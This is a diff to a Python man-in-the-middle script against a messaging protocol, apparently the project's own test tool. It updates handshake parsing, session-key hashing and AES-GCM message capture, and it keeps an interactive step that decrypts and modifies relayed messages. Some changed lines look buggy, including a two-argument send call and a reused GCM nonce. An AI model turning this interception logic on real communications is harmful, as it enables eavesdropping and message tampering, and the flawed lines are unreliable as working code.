@@ -1,4 +1,5 @@
 #!/usr/bin/env python3
+import hashlib
 import random
 import socket
 import threading
@@ -11,7 +12,7 @@ sys.path.append("..")
 from vcsms.cryptography.exceptions import CryptographyException
 from vcsms.improved_socket import ImprovedSocket
 from vcsms.message_parser import MessageParser
-from vcsms.cryptography import dhke, sha256, utils, aes256
+from vcsms.cryptography import dhke, aes256
 from vcsms.client import OUTGOING_MESSAGE_TYPES
 from vcsms.client import INCOMING_MESSAGE_TYPES
 from vcsms import signing, keys
@@ -31,39 +32,33 @@ def mitm_handshake(c: ImprovedSocket, s: ImprovedSocket, c_privkey: tuple, s_pri
     m_dh_pubkey, m_sig_c = signing.gen_signed_dh(m_dh_privkey, c_privkey, dhke.group14_2048)
     _, m_sig_s = signing.gen_signed_dh(m_dh_privkey, s_privkey, dhke.group14_2048)
     s_dh_packet = s.recv()  # server sends difhel pub
-    try:
-        s_dh_pubkey = int(s_dh_packet.split(b':')[0], 16)
-    except ValueError:
+    if len(s_dh_packet) <= 256:
         return (0, 0)
+    s_dh_pubkey = int.from_bytes(s_dh_packet[:256], 'big')
     print("Server sent diffie hellman public key")
     s_secret = dhke.calculate_shared_key(m_dh_privkey, s_dh_pubkey, dhke.group14_2048) 
-    s.send(hex(m_dh_pubkey)[2:].encode() + b':' + m_sig_c)  # diffie hellman key signed with client private
-    c.send(hex(m_dh_pubkey)[2:].encode() + b':' + m_sig_s)  # diffie hellman key signed with server private
+    s.send(m_dh_pubkey.to_bytes(256, 'big') + m_sig_c)  # diffie hellman key signed with client private
+    c.send(m_dh_pubkey.to_bytes(256, 'big') + m_sig_s)  # diffie hellman key signed with server private
     c_dh_packet = c.recv()  # client sends difhel pub
-    try:
-        c_dh_pubkey = int(c_dh_packet.split(b':')[0], 16)
-    except ValueError:
+    if len(c_dh_packet) <= 256:
         return (0, 0)
+    c_dh_pubkey = int.from_bytes(c_dh_packet[:256], 'big')
     print("Client sent diffie hellman public key")
     c_secret = dhke.calculate_shared_key(m_dh_privkey, c_dh_pubkey, dhke.group14_2048)
-    s_key = sha256.hash(utils.i_to_b(s_secret))  # session key with server
-    c_key = sha256.hash(utils.i_to_b(c_secret))  # session key with client
+    s_key = int.from_bytes(hashlib.sha256(s_secret.to_bytes((s_secret.bit_length() + 7) // 8, 'big')).digest(), 'big')  # session key with server
+    c_key = int.from_bytes(hashlib.sha256(c_secret.to_bytes((c_secret.bit_length() + 7) // 8, 'big')).digest(), 'big')  # session key with client
     challenge = s.recv()  # server sends encrypted challenge
-    try:
-        iv_hex, ciphertext_hex = challenge.split(b':')
-        iv = int(iv_hex, 16)
-        ciphertext = bytes.fromhex(ciphertext_hex.decode('utf-8'))
-    except:
-        return (0, 0)
+    iv = int.from_bytes(challenge[:16], 'big')
+    ciphertext = challenge[16:]
     print("Server sent encrypted challenge")
     try:
         answer = aes256.decrypt_cbc(ciphertext, s_key, iv)
     except CryptographyException:
         print("Failed to decrypt challenge")
         return (0, 0)
-    s.send(answer.hex().encode('utf-8'))  # i reply with decrypted challenge
+    s.send(answer)  # i reply with decrypted challenge
     c_challenge = aes256.encrypt_cbc(answer, c_key, iv)
-    c.send(hex(iv)[2:].encode('utf-8') + b':' + c_challenge.hex().encode('utf-8'))  
+    c.send(challenge[:16] + c_challenge)
     # i send challenge to client
 
     if s.recv() != b'OK':
@@ -71,11 +66,7 @@ def mitm_handshake(c: ImprovedSocket, s: ImprovedSocket, c_privkey: tuple, s_pri
         return (0, 0)
     print("Succeeded server challenge")
     c_response = c.recv()  # client responds with challenge answer
-    try:
-        c_answer = bytes.fromhex(c_response.decode('utf-8'))
-    except:
-        return (0, 0)
-    if c_answer != answer:
+    if c_response != answer:
         return (0, 0)
     c.send(b'OK')  # inform client they were correct
     print("Handshake completed successfully") 
@@ -84,18 +75,17 @@ def mitm_handshake(c: ImprovedSocket, s: ImprovedSocket, c_privkey: tuple, s_pri
 def capture(f_sock: ImprovedSocket, t_sock: ImprovedSocket, f_enc_key: int, t_enc_key: int, direction: str):
     while f_sock.connected and t_sock.connected:
         raw = f_sock.recv()
-        iv_hex, ciphertext_hex = raw.split(b':')
-        iv = int(iv_hex, 16)
-        ciphertext = bytes.fromhex(ciphertext_hex.decode('utf-8'))
-        data = aes256.decrypt_cbc(ciphertext, f_enc_key, iv)
+        nonce = raw[:12]
+        ciphertext = raw[12:]
+        data = aes256.decrypt_gcm(ciphertext, f_enc_key, nonce)
         sender, message_type, parameters = MESSAGE_PARSER.parse_message(data)
         print(f'MESSAGE OF TYPE {message_type} {direction} {sender}')
         if input("Modify message data (y/N)? ").lower() == 'y':
             modified = modify(data)
         else:
             modified = data
-        reencrypted = aes256.encrypt_cbc(modified, t_enc_key, iv)
-        t_sock.send(iv_hex + b':' + reencrypted.hex().encode('utf-8'))
+        reencrypted = aes256.encrypt_gcm(modified, t_enc_key, nonce)
+        t_sock.send(raw[:12], reencrypted)
 
 def modify(data: bytes):
     with MODIFY_LOCK: